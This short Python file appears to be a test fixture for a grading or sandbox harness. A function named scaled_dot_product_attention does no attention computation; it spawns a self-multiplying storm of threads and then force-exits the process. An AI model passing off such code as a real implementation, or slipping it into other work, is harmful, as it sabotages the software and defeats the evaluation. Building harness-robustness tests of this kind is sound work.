"""Ends while questions of its threads are on their way to the process that answers them.

tries: 30 threads that start others without pause; the end of the process among them, in every call
observe: dies
"""

import os
import threading
import time

threading.stack_size(1 << 16)


def start_others(go):
    go.wait()
    while True:
        try:
            threading.Thread(target=time.sleep, args=(0.001,), daemon=True).start()
        except RuntimeError:
            pass


def scaled_dot_product_attention(q, k, v, mask=None):
    go = threading.Event()
    try:
        for _ in range(30):
            threading.Thread(target=start_others, args=(go,), daemon=True).start()
    except RuntimeError:
        pass
    go.set()
    time.sleep(0.01)
    os._exit(0)
